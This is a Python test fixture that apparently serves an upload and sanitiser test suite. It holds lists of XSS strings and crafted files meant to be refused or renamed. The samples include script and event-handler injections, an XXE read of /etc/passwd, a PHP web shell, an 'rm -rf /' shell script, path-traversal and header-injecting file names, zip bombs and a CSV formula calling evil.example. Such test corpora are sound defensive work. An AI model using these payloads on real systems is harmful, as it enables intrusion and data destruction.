"""Texts and files that try to do something. None may run, load or be believed."""

import io
import zipfile

from PIL import Image

TEXTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    "<a href='https://example.org' target='_blank' style='position:fixed;inset:0'>x</a>",
    "<a href='https://example.org' ping='https://evil.example'>x</a>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<p class='sheet-side' id='content'>x</p>",
    "<div><p>x</p></div>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src='https://evil.example/x.mp3'></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<p>{{ constructor.constructor('alert(1)')() }}</p>",
    "<p>{% debug %}</p>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</li></ol></div></form><script>alert(1)</script>",
    "<p>\u202eelppa</p>\x00<script>alert(1)</script>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<ul><li><p onclick=alert(1)>x<p></ul>" * 50,
    "<b>" * 2000 + "x",
]


def archive(names: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in names.items():
            file.writestr(name, content)
    return out.getvalue()


def picture(form: str, size=(8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, form)
    return out.getvalue()


TYPES = "[Content_Types].xml"
DOCX = archive({TYPES: "<Types/>", "word/document.xml": "<w/>"})
XLSX = archive({TYPES: "<Types/>", "xl/workbook.xml": "<x/>"})
PPTX = archive({TYPES: "<Types/>", "ppt/presentation.xml": "<p/>"})
OPEN = "application/vnd.oasis.opendocument."
ODT, ODS, ODP = (
    archive({"mimetype": f"{OPEN}{kind}", "content.xml": "<x/>"})
    for kind in ("text", "spreadsheet", "presentation")
)
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"

# name given, content, and the extension it is known by
WELCOME = [
    ("contrat.pdf", PDF, ".pdf"),
    ("photo.jpg", picture("JPEG"), ".jpg"),
    ("photo.JPEG", picture("JPEG"), ".JPEG"),
    ("photo.png", picture("PNG"), ".png"),
    ("photo.webp", picture("WEBP"), ".webp"),
    ("photo.gif", picture("GIF"), ".gif"),
    ("lettre.docx", DOCX, ".docx"),
    ("compte.xlsx", XLSX, ".xlsx"),
    ("exposé.pptx", PPTX, ".pptx"),
    ("lettre.odt", ODT, ".odt"),
    ("compte.ods", ODS, ".ods"),
    ("exposé.odp", ODP, ".odp"),
    ("note.txt", "Bonjour à tous".encode(), ".txt"),
    ("note.txt", "Réunion à 14 h".encode("cp1252"), ".txt"),
    ("liste.csv", "\ufeffnom;ville\r\nPetit;Lyon\r\n".encode(), ".csv"),
]
# What lies about itself is known by its content, and named for it.
RENAMED = [
    ("facture.exe", PDF, "facture.exe.pdf"),
    ("photo.html", picture("PNG"), "photo.html.png"),
    ("../../etc/passwd", b"root:x:0", "passwd.txt"),
    ("..\\..\\boot.ini", b"[boot]", "boot.ini.txt"),
    ("gpj.\u202efdp.exe", PDF, "gpj.fdp.exe.pdf"),
    ("<script>.pdf", PDF, "script.pdf"),
    ("a\r\nSet-Cookie: x.pdf", PDF, "aSet-Cookie x.pdf"),
    ('x";filename="y.html', PDF, "x;filename=y.html.pdf"),
    (".htaccess", b"deny from all", "htaccess.txt"),
    ("script.js", b"alert(1)", "script.js.txt"),
    ("x" * 300 + ".pdf", PDF, "x" * 116 + ".pdf"),
    ("   .  ", PDF, "document.pdf"),
    ("CON.pdf\x00.exe", PDF, "CON.pdf.exe.pdf"),
]
REFUSED = [
    ("vide.pdf", b""),
    ("virus.exe", b"MZ\x90\x00" + b"\x00" * 200),
    ("virus.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    ("elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 100),
    ("page.html", b"<html><script>alert(1)</script></html>"),
    ("page.pdf", b"<!DOCTYPE html><script>alert(1)</script>"),
    ("page.txt", b"   \r\n<script>alert(1)</script>"),
    ("page.txt", "\ufeff<script>alert(1)</script>".encode()),
    ("page.jpg", b"<html>%PDF-1.7"),
    ("dessin.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ("dessin.svg", b"<?xml version='1.0'?><svg/>"),
    ("fichier.xml", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>"),
    ("script.sh", b"#!/bin/sh\nrm -rf /"),
    ("script.php", b"<?php system($_GET['x']);"),
    ("texte.rtf", b"{\\rtf1 {\\object\\objdata 0105}}"),
    ("image.ps", b"%!PS-Adobe-3.0"),
    ("ancien.doc", bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 600),
    ("macros.docx", archive({TYPES: "x", "word/document.xml": "x", "word/vbaProject.bin": "x"})),
    ("macros.odt", archive({"mimetype": f"{OPEN}text", "Basic/Standard/Module1.xml": "x"})),
    ("archive.zip", archive({"a.txt": "x"})),
    ("archive.docx", archive({"a.txt": "x"})),
    ("archive.docx", archive({TYPES: "x", "autre.xml": "x"})),
    ("outil.jar", archive({"META-INF/MANIFEST.MF": "x", "a.class": "x"})),
    ("faux.odt", archive({"content.xml": "x", "mimetype": f"{OPEN}text"})),
    ("faux.odt", archive({"mimetype": "application/x-evil"})),
    ("coupé.docx", DOCX[:40]),
    ("coupé.zip", b"PK\x03\x04" + b"\x00" * 30),
    ("coupé.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40),
    ("photo.bmp", picture("BMP")),
    ("photo.tiff", picture("TIFF")),
    ("photo.ico", picture("ICO")),
    ("utf16.txt", "bonjour".encode("utf-16")),
    ("binaire.txt", bytes(range(256))),
    ("nul.txt", b"bonjour\x00"),
    ("echappement.txt", b"\x1b]0;titre\x07"),
    ("pdf.txt", b"texte\n%PDF-1.7".ljust(20, b"\x01")),
    ("base.sqlite", b"SQLite format 3\x00" + b"\x00" * 80),
    ("son.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00"),
    ("video.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 20),
    ("raccourci.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046")),
]

MARKUP = b"<script>alert(1)</script>"


def described(form: str, words: bytes) -> bytes:
    """A picture whose metadata holds these words."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = words.decode()
    Image.new("RGB", (8, 8), "red").save(out, form, exif=exif)
    return out.getvalue()


# Two things at once, or much more than they seem. A door may take one: then as nothing but a picture or a file to keep.
DOUBLE = [
    ("image.gif", b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)"),
    ("photo.png", picture("PNG") + MARKUP),
    ("photo.jpg", picture("JPEG") + b"<html>" + MARKUP),
    ("exif.jpg", described("JPEG", MARKUP)),
    ("exif.png", described("PNG", MARKUP)),
    ("exif.webp", described("WEBP", MARKUP)),
    ("contrat.pdf.html", PDF + MARKUP),
    ("action.pdf", PDF + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ("bombe.xlsx", archive({TYPES: "<Types/>", "xl/workbook.xml": "x" * 3_000_000})),
    ("bombe.docx", archive({TYPES: "<Types/>", "word/document.xml": "x" * 3_000_000})),
    ("liste.csv", b'nom;ville\r\n=HYPERLINK("https://evil.example");<script>alert(1)</script>\r\n'),
]
# Every file of the corpus, as (name, content).
FILES = [*((name, content) for name, content, _known in [*WELCOME, *RENAMED]), *REFUSED, *DOUBLE]
